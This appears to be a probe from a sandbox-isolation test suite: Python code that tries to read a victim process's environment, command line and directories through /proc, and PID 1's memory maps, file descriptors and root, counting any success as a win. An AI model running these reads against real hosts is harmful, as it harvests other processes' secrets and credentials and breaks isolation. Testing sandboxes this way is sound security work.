"""Reads environment, arguments and directories of processes of the host through /proc.

group: environment
effect: reads
"""
victim = f"/proc/{arena.victim}"
for name in ("/environ", "/cmdline", f"/task/{arena.victim}/environ", f"/root{victim}/environ", f"/cwd{victim}/environ"):
    with attempt(name):
        loot(read(victim + name))
if os.getppid() == 1:  # PID 1 of the sandbox was started in the host's file tree
    for name in ("environ", "auxv", "maps", "cwd/.", "root/.", "exe", "fd/.", "map_files/."):
        with attempt(f"{name} of PID 1"):
            read(f"/proc/1/{name}")
            won()
